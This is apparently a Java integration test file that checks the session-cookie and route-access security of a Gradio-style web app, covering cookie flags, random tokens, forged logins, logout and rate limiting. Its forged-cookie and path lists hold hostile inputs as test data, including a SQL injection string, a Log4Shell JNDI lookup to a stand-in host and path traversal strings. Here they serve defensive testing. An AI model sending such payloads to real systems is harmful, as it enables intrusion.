package io.gradio4j.war.security;

import static io.gradio4j.war.Caller.API;
import static org.assertj.core.api.Assertions.assertThat;

import io.gradio4j.RunningApp;
import io.gradio4j.war.Visitor;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Rule 8: secrets are random, new at each start, in no address and in no script's reach; cookies say so. */
class Rule08SecretsIT {

    private static RunningApp running;

    private final Visitor ada = new Visitor(running.url());
    private final Visitor stranger = new Visitor(running.url());

    @BeforeAll
    static void start() {
        running = Members.launch(Map.of("GRADIO_TRUSTED_PROXIES", "127.0.0.1", "GRADIO_METRICS", "true", "GRADIO_METRICS_TOKEN", "metrics secret"), Members::closed);
    }

    @AfterAll
    static void stop() {
        running.close();
    }

    @AfterEach
    void leave() {
        ada.close();
        stranger.close();
    }

    private String token() throws Exception {
        assertThat(ada.login("ada", "pw").statusCode()).isEqualTo(200);
        return ada.cookies().values().iterator().next();
    }

    private String cookieName() throws Exception {
        token();
        return ada.cookies().keySet().iterator().next();
    }

    @Test
    void cookieIsOutOfReachOfScriptsAndOtherSites() throws Exception {
        var plain = stranger.app().send("POST", "login", java.net.http.HttpRequest.BodyPublishers.ofString("username=ada&password=pw"), "Content-Type",
                "application/x-www-form-urlencoded").headers().allValues("Set-Cookie");
        assertThat(plain).hasSize(1).allSatisfy(c -> assertThat(c).contains("HttpOnly", "SameSite=Lax", "Path=/").doesNotContain("Domain", "SameSite=None", "Secure"));
        var secure = stranger.app().send("POST", "login", java.net.http.HttpRequest.BodyPublishers.ofString("username=ada&password=pw"), "Content-Type",
                "application/x-www-form-urlencoded", "X-Forwarded-Proto", "https").headers().allValues("Set-Cookie");
        assertThat(secure).hasSize(1).allSatisfy(c -> assertThat(c).contains("; Secure", "HttpOnly").doesNotContain("unsecure"));
    }

    @Test
    void tokensAreLongRandomAndNeverTheSame() throws Exception {
        var tokens = new HashSet<String>();
        for (var i = 0; i < 50; i++) {
            tokens.add(token());
        }
        assertThat(tokens).hasSize(50).allMatch(t -> t.matches("[A-Za-z0-9_-]{43,}"));
    }

    @Test
    void secretsAreNewAtEachStart() throws Exception {
        var name = cookieName();
        var token = token();
        try (var again = Members.launch(Map.of(), Members::closed); var visitor = new Visitor(again.url()); var other = new Visitor(again.url())) {
            visitor.login("ada", "pw");
            var newName = visitor.cookies().keySet().iterator().next();
            assertThat(newName).isNotEqualTo(name);
            assertThat(other.get("config", "Cookie", name + "=" + token).statusCode()).isEqualTo(401);
            assertThat(other.get("config", "Cookie", newName + "=" + token).statusCode()).isEqualTo(401);
            assertThat(other.get("config", "Cookie", visitor.cookie()).statusCode()).isEqualTo(200);
        }
    }

    /** What somebody without a login could send as one. */
    @TestFactory
    Stream<DynamicTest> forgedTokenIsNone() throws Exception {
        var token = token();
        var name = cookieName();
        return Stream.of(name + "=", name + "=x", name + "=null", name + "=undefined", name + "=true", name + "=0", name + "=ada", name + "=ada:pw", name + "=" + token.substring(1),
                name + "=" + token.substring(0, token.length() - 1), name + "=" + token.substring(1) + token.charAt(0), name + "=" + token.toLowerCase(), name + "=" + token + "A",
                name + "=" + token + token, name + "=\"" + token.substring(2) + "\"", name + "=" + "A".repeat(43), name + "=" + "A".repeat(4_000), name + "=%00", name + "=../x", name + "=*",
                name + "=' OR 1=1 --", name + "=${jndi:ldap://evil.example/x}", "access-token=" + token, "access-token-unsecure=" + token, name.toUpperCase() + "=" + token,
                name + "x=" + token, "x" + name + "=" + token, "session=" + token, "JSESSIONID=" + token, "user=ada", "username=ada", name + " =x")
                .map(cookie -> DynamicTest.dynamicTest(cookie.length() > 70 ? cookie.substring(0, 70) : cookie, () -> {
                    for (var path : List.of("config", API + "info", "monitoring/summary")) {
                        assertThat(stranger.get(path, "Cookie", cookie).statusCode()).isEqualTo(401);
                    }
                    assertThat(stranger.post(API + "run/echo", "{\"data\":[\"x\"]}", "Cookie", cookie).statusCode()).isEqualTo(401);
                    assertThat(stranger.get(API + "user", "Cookie", cookie).body()).isEqualTo("null");
                }));
    }

    /** Where a token or a user might be believed that is no cookie. */
    @TestFactory
    Stream<DynamicTest> loginIsNowhereButInTheCookie() throws Exception {
        var token = token();
        return Stream.of(new String[][] {{"config?token=" + token}, {"config?access_token=" + token}, {"config?" + cookieName() + "=" + token}, {"config?user=ada"},
            {"config?username=ada&password=pw"}, {"config", "Authorization", "Bearer " + token}, {"config", "Authorization", "Basic YWRhOnB3"}, {"config", "X-Token", token},
            {"config", "X-Forwarded-User", "ada"}, {"config", "X-Remote-User", "ada"}, {"config", "Remote-User", "ada"}, {"config", "X-User", "ada"},
            {"config", "X-Auth-Request-User", "ada"}, {"config", "X-Forwarded-For", "127.0.0.1"}, {"config", "X-Original-URL", "/login"}, {"config", "X-Gradio-User", "app"}})
                .map(request -> DynamicTest.dynamicTest(String.join(" ", request).substring(0, Math.min(60, String.join(" ", request).length())), () ->
                        assertThat(stranger.get(request[0], java.util.Arrays.copyOfRange(request, 1, request.length)).statusCode()).isEqualTo(401)));
    }

    /** Every route but those that the login itself needs. */
    @ParameterizedTest
    @ValueSource(strings = {"config", "config/", "config/x", "manifest.json", "monitoring", "monitoring/summary", API + "info", API + "info/", API + "openapi.json", API + "app.js",
        API + "queue/status", API + "queue/data?session_hash=x", API + "heartbeat/x", API + "call/echo/x", API + "file=x/y", API + "file/x", API + "upload_progress?upload_id=x",
        API + "deep_link?session_hash=x", API + "metrics", API + "login_check", API + "startup-events/x", API + "health/../info", "nothing", API, API + "nothing", "assets/../config",
        "login/../config", "logout/../config", "theme.css/../config", "favicon.ico/../config", "LOGIN", "Config", "config%2f", "config%00", "config;login", "//config"})
    void routeIsClosedToTheUnknown(String path) throws Exception {
        var answer = RawHttp.get(stranger.app(), path.startsWith("/") ? path : "/" + path);
        assertThat(answer.status()).as(answer.text()).isIn(400, 401, 403, 404);
        assertThat(answer.text()).doesNotContain("\"dependencies\"", "\"components\"", "named_endpoints");
    }

    @ParameterizedTest
    @ValueSource(strings = {"run/echo", "call/echo", "call/v2/echo", "queue/join", "cancel", "reset", "upload", "stream/x", "component_server/", "nothing", "run/../queue/join"})
    void changeIsClosedToTheUnknown(String path) throws Exception {
        assertThat(RawHttp.post(stranger.app(), API + path, "{\"data\":[\"x\"],\"fn_index\":0,\"session_hash\":\"x\",\"event_id\":\"x\"}").status()).isIn(400, 401, 404);
    }

    @Test
    void tokenIsInNoPageAndNotForScripts() throws Exception {
        var token = token();
        for (var path : List.of("", "config", API + "info", API + "user", "monitoring/summary")) {
            assertThat(ada.get(path).body()).doesNotContain(token).doesNotContain("metrics secret");
        }
        for (var site : List.of("same-origin", "same-site", "cross-site", "none")) {
            assertThat(ada.get(API + "token", "Sec-Fetch-Site", site).body()).doesNotContain(token);
        }
    }

    @Test
    void logoutEndsTheTokenOnTheServer() throws Exception {
        var cookie = cookieName() + "=" + token();
        assertThat(stranger.get("config", "Cookie", cookie).statusCode()).isEqualTo(200);
        ada.get("logout?all_session=false");
        assertThat(stranger.get("config", "Cookie", cookie).statusCode()).isEqualTo(401);
    }

    @Test
    void loginDoesNotTakeATokenThatSomebodyElseChose() throws Exception {
        var name = cookieName();
        var answer = stranger.login("ada", "pw", "Cookie", name + "=" + "A".repeat(43));
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(stranger.cookies().get(name)).isNotEqualTo("A".repeat(43));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Bearer", "Bearer ", "Bearer metrics", "Bearer metrics secretx", "bearer metrics secret", "Bearer  metrics secret", "Basic metrics secret", "metrics secret"})
    void metricsAskForTheirTokenExactly(String authorization) throws Exception {
        assertThat(RawHttp.get(stranger.app(), API + "metrics", "Authorization: " + authorization).status()).isEqualTo(401);
    }

    @Test
    void guessingIsSlowedDown() throws Exception {
        try (var guessed = Members.launch(Map.of(), Members::closed); var guesser = new Visitor(guessed.url())) {
            var statuses = Stream.iterate(0, i -> i + 1).limit(40).map(i -> {
                try {
                    return guesser.login("ada", "guess" + i).statusCode();
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            }).toList();
            assertThat(statuses).startsWith(400).endsWith(429);
        }
    }
}
